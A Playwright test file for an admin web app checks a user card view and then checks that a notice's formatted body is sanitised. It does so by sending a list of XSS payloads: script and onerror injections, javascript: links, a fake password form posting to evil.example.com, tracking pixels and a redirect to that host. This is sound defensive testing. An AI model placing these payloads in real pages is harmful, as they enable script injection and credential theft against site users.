import type { Page } from "@playwright/test";
import { signInToApi } from "../app/api.ts";
import { question } from "../app/list-screen.ts";
import { expect, test } from "../app/test.ts";

const card = (page: Page, name: string) => page.locator("[data-card]").filter({ hasText: name });

test("users stand side by side as cards, with the ticks and actions of the table", async ({
  page,
  signIn,
}) => {
  await signIn("chenjie", "/setting/userManage");
  await page.getByRole("radio", { name: "卡片" }).check();
  const cards = page.getByRole("region", { name: "用户管理", exact: true }).locator("[data-card]");
  await expect(cards).toHaveCount(20);
  await expect(page).toHaveURL(/view=cards/);
  await page.getByRole("checkbox", { name: "选择本页全部" }).check();
  await expect(page.getByText("已选 20 条")).toBeVisible();
  await page.getByRole("checkbox", { name: "选择本页全部" }).uncheck();
  await cards.nth(0).focus();
  await page.keyboard.press("ArrowRight");
  await expect(cards.nth(1)).toBeFocused();
  await page.keyboard.press("Space");
  await expect(page.getByText("已选 1 条")).toBeVisible();
  await page.keyboard.press("ArrowDown");
  await page.keyboard.press("ArrowUp");
  await expect(cards.nth(1)).toBeFocused();
  await page.getByRole("button", { name: "清空", exact: true }).click();
  await page
    .getByRole("searchbox", { name: "姓名或账号" })
    .or(page.getByLabel("姓名或账号"))
    .first()
    .fill("李文静");
  await page.getByRole("button", { name: "查询" }).click();
  await expect(cards).toHaveCount(1);
  await card(page, "李文静").getByRole("button", { name: "停用" }).click();
  await question(page, /「李文静」/)
    .getByRole("button", { name: "取消" })
    .click();
  await page.reload();
  await expect(card(page, "李文静")).toBeVisible();
});

/** Bodies that want to run, to be sent, to look like the app, or to tell a foreign server who reads. */
const HOSTILE: readonly string[] = [
  "<img src=x onerror=\"document.title='taken'\">",
  "<script>document.title='taken'</script>",
  "<svg><script>document.title='taken'</script></svg>",
  "<a href=\"javascript:document.title='taken'\">链接甲</a>",
  "<a href=' &#106;avascript:document.title=1'>链接乙</a>",
  "<a href='data:text/html,<script>alert(1)</script>'>链接丙</a>",
  "<iframe srcdoc='<script>parent.document.title=1</script>'></iframe>",
  "<object data='/x'></object><embed src='/x'>",
  "<form action='https://evil.example.com'><input name='password'><button>登录</button></form>",
  "<style>body { display: none }</style>",
  "<p style='position:fixed;inset:0;background:red' class='ant-modal' id='root'>盖住页面</p>",
  "<img src='https://evil.example.com/pixel.png' alt='外部图'>",
  "<img src='//evil.example.com/pixel.png' alt='外部图'>",
  "<base href='https://evil.example.com/'><meta http-equiv='refresh' content='0;url=https://evil.example.com'>",
  "<template><img src=x onerror=document.title=1></template><noscript><img src=x onerror=document.title=1></noscript>",
  // Elements that are never closed take along all that follows.
  "<svg/onload=document.title='taken'>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=document.title=1&gt;'>",
];

test("formatted text of a notice: nothing in it runs, is sent or fetched from elsewhere", async ({
  app,
  page,
  faults,
  signIn,
}) => {
  const head = await signInToApi(app.address, "zhoumy");
  const good =
    '<p>请<strong>周五前</strong>完成</p><ul><li>合同</li></ul><a href="https://www.chinatax.gov.cn/">税务总局</a>';
  const created = await head.post("/api/notice/api/notice/create", {
    noticeTitle: "正文有格式的通知",
    noticeBody: good + HOSTILE.join(""),
    category: 1,
  });
  expect(created).toMatchObject({ code: "0" });
  const foreign: string[] = [];
  page.on("request", (request) => {
    if (request.url().includes("evil.example.com")) foreign.push(request.url());
  });
  await signIn("zhoumy", "/");
  await page.getByRole("button", { name: "正文有格式的通知" }).click();
  const body = page.getByRole("dialog").locator(".field-markup");
  await expect(body.getByRole("listitem")).toHaveText("合同");
  await expect(body.locator("strong")).toHaveText("周五前");
  const link = body.getByRole("link", { name: "税务总局" });
  await expect(link).toHaveAttribute("target", "_blank");
  await expect(link).toHaveAttribute("rel", "noopener noreferrer");
  await expect(body.getByRole("link")).toHaveCount(1);
  await expect(body.getByText("［图片：外部图］").first()).toBeVisible();
  expect(
    await body.evaluate((element) =>
      [...element.querySelectorAll("*")].flatMap((inside) => [
        ...("img script style svg math iframe object embed form input button base meta template noscript"
          .split(" ")
          .includes(inside.localName)
          ? [inside.localName]
          : []),
        ...[...inside.attributes]
          .map(({ name }) => name)
          .filter((name) => /^(?:on|style|class|id$)/.test(name)),
      ]),
    ),
  ).toEqual([]);
  await expect(page).toHaveTitle(/^首页/);
  // What is cleaned is read in a document that shows nothing; the policy tells what it would refuse there.
  expect(faults.filter((fault) => !/inline event handler|base URI/.test(fault))).toEqual([]);
  faults.length = 0;
  expect(foreign).toEqual([]);
  await page.keyboard.press("Escape");
  const row = page.getByRole("row").filter({ hasText: "正文有格式的通知" });
  await expect(row.getByText("已读")).toBeVisible();
});
